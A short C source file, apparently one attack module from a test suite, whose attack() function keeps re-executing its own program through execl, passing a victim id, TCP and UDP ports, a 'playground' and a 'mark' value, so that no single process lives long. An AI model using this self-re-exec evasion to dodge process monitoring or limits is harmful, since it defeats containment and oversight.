/* Executes itself again and again, so that no process lives long. */
#include "attack.h"
static void attack(void) {
    char numbers[3][16];
    sprintf(numbers[0], "%d", victim);
    sprintf(numbers[1], "%d", tcp_port);
    sprintf(numbers[2], "%d", udp_port);
    char *self = program_invocation_name;
    execl(self, self, numbers[0], playground, numbers[1], numbers[2], mark, NULL);
}
